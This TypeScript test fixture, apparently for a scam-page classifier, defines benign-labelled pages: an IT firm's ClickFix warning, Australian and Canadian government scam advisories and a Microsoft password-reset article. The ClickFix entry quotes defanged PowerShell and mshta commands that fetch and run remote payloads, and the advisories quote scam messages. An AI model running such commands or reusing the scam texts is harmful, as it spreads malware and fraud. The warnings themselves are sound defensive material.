import { type Entry } from '../entry.js';
import { wpSite } from '../parts/yf-kit.js';

// Knowledge-base articles, advisories and blog posts (several quote commands or scam text).

const learnShell = (title: string, crumbs: string, body: string): string => `<!DOCTYPE html>
<html class="layout layout-holy-grail show-table-of-contents conceptual has-default-focus theme-light" lang="en-us" dir="ltr" data-css-variable-support="true" data-authenticated="false" data-auth-status-determined="false" data-target="docs" x-ms-format-detection="none">
<head>
<meta charset="utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1.0" />
<meta property="og:site_name" content="Microsoft Learn" />
<meta name="ms.service" content="exchange-online" />
<meta name="ms.topic" content="article" />
<meta name="author" content="chrisda" />
<title>${title} | Microsoft Learn</title>
<link rel="stylesheet" href="/static/third-party/font-awesome/css/font-awesome.min.css">
<style>
body{margin:0;font-family:"Segoe UI",SegoeUI,"Helvetica Neue",Helvetica,Arial,sans-serif;color:#161616;line-height:1.6}
header{border-bottom:1px solid #e6e6e6;padding:12px 4%;display:flex;align-items:center;gap:14px}
header b{font-size:16px}
.crumb{font-size:13px;color:#505050;padding:10px 4%}
main{max-width:860px;margin:0 auto;padding:10px 24px 60px}
h1{font-size:2.2rem;font-weight:600;line-height:1.25}
pre{position:relative;background:#f2f2f2;border:1px solid #e3e3e3;padding:16px;overflow:auto;font-family:SFMono-Regular,Consolas,"Liberation Mono",Menlo,Courier,monospace;font-size:14px}
.copy{position:absolute;top:6px;right:6px;background:#fff;border:1px solid #ccc;font-size:12px;padding:3px 8px;cursor:pointer}
.NOTE{border-left:4px solid #0078d4;background:#ebf3fc;padding:10px 16px;margin:16px 0}
.WARNING{border-left:4px solid #d83b01;background:#fff4ce;padding:10px 16px;margin:16px 0}
</style>
</head>
<body>
<header><span style="font-weight:700;color:#737373">Microsoft</span><b>Learn</b><span style="color:#505050">Documentation &middot; Training &middot; Q&amp;A</span></header>
<div class="crumb">${crumbs}</div>
<main id="main" role="main">${body}</main>
<script>
document.querySelectorAll('pre').forEach(function(p){
  var b = document.createElement('button'); b.className = 'copy'; b.textContent = 'Copy'; b.setAttribute('aria-label', 'Copy code');
  b.onclick = function(){ navigator.clipboard.writeText(p.querySelector('code').innerText).then(function(){ b.textContent = 'Copied'; setTimeout(function(){ b.textContent = 'Copy'; }, 1500); }); };
  p.appendChild(b);
});
</script>
</body></html>`;

const govAuShell = (title: string, body: string): string => `<!DOCTYPE html>
<html lang="en" dir="ltr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>${title}</title>
<style>
body{margin:0;font-family:"Public Sans",Helvetica,Arial,sans-serif;color:#1a1a1a;line-height:1.65}
.gov{background:#f5f5f5;font-size:13px;padding:6px 6%}
header{background:#0b1e3f;color:#fff;padding:18px 6%;font-size:20px;font-weight:700}
main{max-width:860px;margin:30px auto;padding:0 20px}
h1{font-size:2.2rem;line-height:1.2}
.callout{background:#eef6fb;border-left:6px solid #2f70b5;padding:12px 18px;margin:18px 0}
blockquote{background:#fafafa;border:1px dashed #aaa;padding:10px 16px;font-family:Consolas,monospace;font-size:14px}
table{border-collapse:collapse;width:100%;font-size:15px}td,th{border:1px solid #ccc;padding:8px;text-align:left}
footer{background:#0b1e3f;color:#cfd8e3;padding:20px 6%;font-size:13px;margin-top:40px}
</style></head><body><div class="gov">An official Australian Government website</div>${body}</body></html>`;

export const entries: Entry[] = [
  {
    id: 'yf-clean-msp-blog-clickfix-warning',
    label: 'clean',
    kind: 'security-blog-quoting-malware',
    url: 'https://www.northbridgeit.com.au/blog/fake-captcha-clickfix-what-our-clients-are-seeing/',
    body: wpSite({
      name: 'Northbridge IT Services',
      tagline: 'Managed IT and cyber security for professional practices',
      host: 'www.northbridgeit.com.au',
      menu: ['Services', 'Industries', 'Blog', 'Support', 'Contact'],
      accent: '#12355b',
      main: `<section class="content">
<p style="color:#777;font-size:14px">Security Advisories &middot; 9 April 2024 &middot; by Rachel Ng, Security Lead</p>
<h1>"Verify you are human": the fake CAPTCHA our clients keep seeing</h1>
<p>Over the past month our service desk has handled eleven tickets from staff at law firms, dental clinics and property managers who were shown a "verification" pop-up on an otherwise normal website. The pop-up looks like a Cloudflare or Google reCAPTCHA check, but instead of asking you to pick traffic lights, it asks you to press <b>Windows + R</b>, then <b>Ctrl + V</b>, then <b>Enter</b>.</p>
<p>This technique is known as <b>ClickFix</b>. When you click the checkbox, the page silently copies a command to your clipboard. Pressing those keys pastes and runs it. Here is a (defanged) example from one of this week's incidents &ndash; <b>do not run it</b>:</p>
<pre style="background:#f4f4f4;border:1px solid #ddd;padding:12px;overflow:auto;font-size:13px">powershell -w h -nop -c "iex(iwr 'hxxps://verify-cdn-cloud[.]com/c/4471.ps1' -UseBasicParsing)" # I am not a robot - reCAPTCHA Verification ID: 4471</pre>
<p>Another variant uses <code>mshta</code> to run an HTML application straight from the internet:</p>
<pre style="background:#f4f4f4;border:1px solid #ddd;padding:12px;overflow:auto;font-size:13px">mshta hxxps://captcha-check-nz[.]com/v/verify.hta # I am not a robot - Cloudflare ID 83a1f</pre>
<p>The comment at the end is there so that the Run box only shows the friendly text. The payloads we recovered were information stealers (Lumma and StealC) that harvest saved browser passwords and session cookies.</p>
<h2>What to do</h2>
<ul><li><b>No legitimate website will ever ask you to paste something into the Run box, PowerShell or Terminal.</b></li><li>If you already did it, disconnect from Wi-Fi and call our service desk on 1300 642 218 straight away.</li><li>Administrators: we are rolling out a policy that blocks the Run dialog for standard users and alerts on <code>mshta.exe</code> and encoded PowerShell launched from <code>explorer.exe</code>.</li></ul>
<p>Questions? Email <a href="mailto:security@northbridgeit.com.au">security@northbridgeit.com.au</a>.</p>
</section>`,
    }),
  },
  {
    id: 'yf-clean-acsc-bec-guidance',
    label: 'clean',
    kind: 'government-advisory',
    url: 'https://www.cyber.gov.au/threats/types-threats/business-email-compromise',
    body: govAuShell('Business email compromise | Cyber.gov.au', `<header>Australian Signals Directorate &middot; cyber.gov.au</header>
<main>
<h1>Business email compromise</h1>
<p>Business email compromise (BEC) is when a cybercriminal gains access to a business email account and imitates the owner's identity to defraud the business, its employees, customers or partners. In many cases, the criminal focuses on invoices and payments.</p>
<div class="callout"><b>Warning signs:</b> an email or document advising that a supplier's bank details have changed; urgency; a request not to call to confirm; slight changes to the sender's email address or domain (for example <i>coastlinebuildingsupplies-au.com</i> instead of <i>coastlinebuildingsupplies.com.au</i>).</div>
<h2>How to protect your business</h2>
<ul><li>Verify any change to payment details by calling the supplier on a phone number you already have &ndash; not one in the email.</li><li>Turn on multi-factor authentication for all email accounts.</li><li>Set up alerts for new inbox forwarding rules.</li><li>Train staff who pay invoices to recognise BEC attempts.</li></ul>
<h2>Example message</h2>
<blockquote>Dear Accounts Payable, please be advised that our banking details have changed effective immediately. Our previous account has been closed due to an audit. Please do not call our office as our phone lines are being migrated...</blockquote>
<h2>Report it</h2>
<p>If you have lost money, contact your bank immediately and report to <a href="https://www.cyber.gov.au/report-and-recover/report">ReportCyber</a>. For help, call the Australian Cyber Security Hotline on 1300 CYBER1 (1300 292 371).</p>
</main>
<footer>&copy; Commonwealth of Australia 2024</footer>`),
  },
  {
    id: 'yf-clean-ms-support-reset-forgotten-password',
    label: 'clean',
    kind: 'password-help-article',
    url: 'https://support.microsoft.com/en-au/account-billing/reset-a-forgotten-microsoft-account-password-eff4f067-5042-c1a3-fe72-b04d60556c37',
    body: learnShell('Reset a forgotten Microsoft account password', 'Microsoft Support / Account &amp; billing / Microsoft account', `
<h1>Reset a forgotten Microsoft account password</h1>
<p>If you've forgotten your password for the Microsoft account you use to sign in to Outlook.com, Skype, OneDrive and Xbox Live, you might need to reset it.</p>
<div class="NOTE"><p><b>Important:</b> Microsoft support will never call you or email you asking for your password. If you're using a work or school account, contact your organisation's IT administrator instead.</p></div>
<h2>Reset your password</h2>
<ol><li>Go to <a href="https://account.live.com/password/reset">Reset your password</a>.</li><li>Enter the email address, phone number or Skype ID you use to sign in, then select <b>Next</b>.</li><li>We'll ask where you'd like to receive your verification code. Select <b>Next</b>.</li><li>Enter the code and select <b>Next</b>.</li><li>Create a new password and select <b>Next</b>.</li></ol>
<h2>Work or school accounts</h2>
<p>If your organisation has enabled self-service password reset, go to <a href="https://passwordreset.microsoftonline.com/">passwordreset.microsoftonline.com</a>. To check who your admin is, sign in at <a href="https://portal.office.com">portal.office.com</a> and select <b>Help</b>.</p>
<h2>Still having problems?</h2>
<p>Use the <a href="https://account.live.com/acsr">account recovery form</a>. Need more help? <a href="https://support.microsoft.com/contactus">Contact Microsoft Support</a>.</p>`),
  },
  {
    id: 'yf-clean-cra-fraud-examples-page',
    label: 'clean',
    kind: 'government-advisory',
    url: 'https://www.canada.ca/en/revenue-agency/corporate/security/protect-yourself-against-fraud/examples-fraudulent-communications.html',
    body: `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Examples of fraudulent communications - Canada.ca</title>
<style>
body{margin:0;font-family:"Noto Sans",Helvetica,Arial,sans-serif;color:#333;line-height:1.6}
.gc{padding:14px 6%;border-bottom:1px solid #ddd;display:flex;justify-content:space-between}.gc i{color:#af3c43;font-style:normal}
.bar{background:#26374a;height:44px}
main{max-width:960px;margin:26px auto;padding:0 20px}
h1{font-family:Lato,Arial,sans-serif;border-bottom:1px solid #af3c43;padding-bottom:8px}
.ex{border:1px solid #ccc;margin:18px 0}.ex h3{margin:0;background:#f5f5f5;padding:8px 14px;font-size:17px}.ex .sms{padding:12px 16px;font-family:Arial;font-size:15px;background:#fff}
.ex .why{padding:8px 16px;background:#fcf8e3;font-size:14px}
</style></head>
<body>
<div class="gc"><b>Government <i>&#127809;</i> of Canada</b><a href="https://www.canada.ca/fr/agence-revenu/organisation/securite/protegez-vous-contre-fraude/exemples-communications-frauduleuses.html">Français</a></div>
<div class="bar"></div>
<main>
<h1>Examples of fraudulent communications</h1>
<p>Scammers pretend to be from the Canada Revenue Agency (CRA) to get your personal information or money. The following are real examples of fraudulent messages reported to us. <b>Do not click links in messages like these.</b></p>
<div class="ex"><h3>Text message: refund</h3><div class="sms">CRA: You have received an e-Transfer deposit of $913.00 for your Canada Carbon Rebate. Accept your funds here: cra-arc-gc.ca-refund[.]online/deposit</div><div class="why">Why it's a scam: the CRA never sends refunds by <i>Interac</i> e-Transfer, and never sends links by text.</div></div>
<div class="ex"><h3>Email: account locked</h3><div class="sms">Your CRA My Account has been locked due to suspicious activity. Sign in with your Sign-In Partner within 24 hours to restore access: hxxps://my-account-cra[.]info/login</div><div class="why">Why it's a scam: urgency, a web address that is not canada.ca, and a request to sign in through a link.</div></div>
<div class="ex"><h3>Phone call: arrest threat</h3><div class="sms">"This is Officer Brooks from the CRA. A warrant has been issued for your arrest due to unpaid taxes. To avoid arrest you must pay immediately using gift cards or Bitcoin."</div><div class="why">Why it's a scam: the CRA never threatens arrest and never asks for payment in gift cards, prepaid credit cards or cryptocurrency.</div></div>
<h2>Report a scam</h2>
<p>Contact the <a href="https://antifraudcentre-centreantifraude.ca/">Canadian Anti-Fraud Centre</a> at 1-888-495-8501. If you gave out personal information, contact your bank and the CRA at 1-800-959-8281.</p>
<p style="font-size:14px">Date modified: 2024-04-02</p>
</main>
</body></html>`,
  },
  {
    id: 'yf-clean-ato-scam-alerts-list',
    label: 'clean',
    kind: 'government-advisory',
    url: 'https://www.ato.gov.au/online-services/scams-cyber-safety-and-identity-protection/scam-alerts',
    body: govAuShell('Scam alerts | Australian Taxation Office', `<header>Australian Taxation Office</header>
<main>
<h1>Scam alerts</h1>
<p>Stay up to date with the latest ATO impersonation scams. If you're unsure whether an ATO interaction is genuine, don't reply &ndash; phone us on 1800 008 540.</p>
<table><tr><th>Date</th><th>Scam</th><th>What it says</th></tr>
<tr><td>April 2024</td><td>myGov refund SMS</td><td>"You are eligible to receive a tax refund of $786.40. Sign in to claim before [date]" with a link to a fake myGov sign-in page.</td></tr>
<tr><td>March 2024</td><td>Debt recovery threats</td><td>Calls or texts claiming you owe a tax debt, that a warrant will be issued and that you must pay using gift cards or cryptocurrency.</td></tr>
<tr><td>March 2024</td><td>ABN "renewal"</td><td>Emails asking businesses to pay a fee to renew their ABN. ABNs don't need renewing and registration is free.</td></tr></table>
<div class="callout"><b>Remember:</b> we will never send you an unsolicited SMS or email with a hyperlink to log on to our online services. Access ATO online services directly through myGov at my.gov.au.</div>
<h2>Report a scam</h2>
<p>Forward suspicious emails to ReportScams@ato.gov.au and delete them. Phone 1800 008 540 if you've given your TFN or bank details to a scammer.</p>
</main>
<footer>&copy; Australian Taxation Office for the Commonwealth of Australia</footer>`),
  },
];
